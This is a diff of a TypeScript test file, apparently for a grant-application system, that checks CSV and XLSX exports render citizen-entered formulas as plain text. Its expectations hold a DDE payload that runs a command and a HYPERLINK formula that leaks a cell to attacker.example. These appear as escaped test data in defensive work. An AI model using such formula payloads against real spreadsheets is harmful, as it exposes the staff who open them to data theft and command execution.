@@ -2,7 +2,7 @@ import { randomInt, randomUUID } from 'node:crypto';
 import { Workbook, ValueType } from 'exceljs';
 import { csvCell } from '../../common/csv';
 import { businessIdCheckDigit } from '../../rules/identifiers';
-import { ContractHarness, openContractHarness } from '../support/contractHarness';
+import { type ContractHarness, openContractHarness } from '../support/contractHarness';
 import { samplePdf } from '../support/samplePdf';
 
 /**
@@ -60,7 +60,7 @@ it('writes a citizen\'s =HYPERLINK(…) and =cmd|… as text in the handler\'s r
 
   const csv = await harness.api().get(`/api/rounds/${roundId}/export/avustushakemus.csv`).set(HANDLER);
   expect(csv.status).toBe(200);
-  const cells = csv.text.replace(/^\ufeff/, '').split('\r\n')[1]!;
+  const cells = csv.text.replace(/^\ufeff/, '').split('\r\n')[1];
   expect(cells).toContain(`"'=cmd|' /C calc'!A0"`);
   expect(cells).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Avaa liite"")"`);
   expect(cells).toContain(`'@Liisa`);
@@ -75,7 +75,7 @@ it('writes a citizen\'s =HYPERLINK(…) and =cmd|… as text in the handler\'s r
   const workbook = new Workbook();
   const body = xlsx.body as Buffer;
   await workbook.xlsx.load(body.buffer.slice(body.byteOffset, body.byteOffset + body.length) as ArrayBuffer);
-  const row = workbook.worksheets[0]!.getRow(2);
+  const row = workbook.worksheets[0].getRow(2);
   const texts: { value: unknown; type: ValueType }[] = [];
   row.eachCell((cell) => texts.push({ value: cell.value, type: cell.type }));
   expect(texts).toContainEqual({ value: DDE, type: ValueType.String });
